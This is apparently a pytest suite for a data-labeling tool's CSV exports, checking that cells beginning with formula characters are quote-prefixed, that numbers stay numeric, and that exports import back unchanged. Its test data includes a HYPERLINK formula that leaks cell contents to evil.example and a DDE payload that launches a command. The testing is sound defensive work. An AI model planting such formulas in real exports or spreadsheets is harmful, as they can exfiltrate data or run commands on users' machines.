"""Every CSV Flywheel writes is safe to open in a spreadsheet: a text cell starting with =, +, -, @, a tab
or a carriage return is prefixed with a single quote (OWASP), in the items export and in the judge run
export alike; numbers Flywheel computes itself stay numbers; and an export still imports back as it was."""

from __future__ import annotations

import csv
import io
import json

import pytest

from judging.amplification import run_export_lines
from labeling.exporting import items_export_lines
from labeling.importing import ImportOptions, items_import
from labeling.models import Item, Label, Project
from labeling.spreadsheet_safe import FORMULA_STARTS, csv_cell, csv_cell_read
from tests.optimizer.disagreements import Row, run_make

pytestmark = pytest.mark.django_db

# The cells of the attack (the list), one per formula character at least.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


def _assert_no_cell_runs(rows: list[list[str]], numeric: set[int]) -> None:
    for row in rows[1:]:
        for index, cell in enumerate(row):
            if index not in numeric:
                assert not cell.startswith(FORMULA_STARTS), f"column {rows[0][index]}: {cell!r}"


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_formula_cell_of_the_items_export_is_neutralised(project, annotator, formula):
    item = Item.objects.create(
        project=project,
        external_id=formula,
        query=formula,
        document=formula,
        metadata={"note": formula},
    )
    Label.objects.create(item=item, annotator=annotator, score=3, rationale=formula)

    rows = _rows(items_export_lines(project=project, fmt="csv"))

    header, row = rows[0], rows[1]
    _assert_no_cell_runs(rows, numeric={header.index("gold"), header.index("n_labels")})
    for column in ("external_id", "query", "document"):
        assert row[header.index(column)] == "'" + formula
    # The rationale sits inside the labels' JSON, whose cell starts with "[": kept exactly, and inert.
    assert json.loads(row[header.index("labels")])[0]["rationale"] == formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_formula_cell_of_the_judge_run_export_is_neutralised(project, annotator, formula):
    run = run_make(project, annotator, [Row("test", gold=2, judge=4, reasoning=formula, query=formula)])
    run.endpoint.name = formula  # an endpoint's name is a lead's text too
    run.endpoint.save()

    rows = _rows(run_export_lines(run=run, fmt="csv"))

    header, row = rows[0], rows[1]
    numbers = {"score", "prompt_version", "test_items", "test_nmse", "test_malformed_rate", "test_kappa"}
    _assert_no_cell_runs(rows, numeric={header.index(name) for name in numbers})
    for column in ("query", "reasoning", "model"):
        assert row[header.index(column)] == "'" + formula


def test_a_negative_score_that_flywheel_computed_stays_a_number(annotator):
    project = Project.objects.create(
        name="Signed", slug="signed", rubric="Rate it.", scale_min=-2, scale_max=2
    )
    item = Item.objects.create(project=project, external_id="a", query="q", document="d")
    Label.objects.create(item=item, annotator=annotator, score=-2, rationale="Off topic entirely.")
    rows = _rows(items_export_lines(project=project, fmt="csv"))
    assert rows[1][rows[0].index("gold")] == "-2"
    assert csv_cell(-2) == -2 and csv_cell(-0.5) == -0.5 and csv_cell("-2") == "'-2"


def test_an_exported_csv_imports_back_with_the_original_text(project, annotator, tmp_path):
    for n, formula in enumerate([*FORMULAS, "'=already quoted", "plain text", "'just a quote"]):
        Item.objects.create(project=project, external_id=f"x{n}", query=formula, document=f"doc {formula}")
    path = tmp_path / "export.csv"
    path.write_text("".join(items_export_lines(project=project, fmt="csv")), encoding="utf-8", newline="")
    copy = Project.objects.create(name="Copy", slug="copy", rubric="Rate it.")

    items_import(project=copy, path=path, options=ImportOptions())

    original = dict(project.items.values_list("external_id", "query"))
    assert dict(copy.items.values_list("external_id", "query")) == original


@pytest.mark.parametrize("text", [*FORMULAS, "'=x", "''+x", "'plain", "plain", ""])
def test_reading_a_cell_undoes_exactly_what_writing_it_did(text):
    assert csv_cell_read(csv_cell(text)) == text
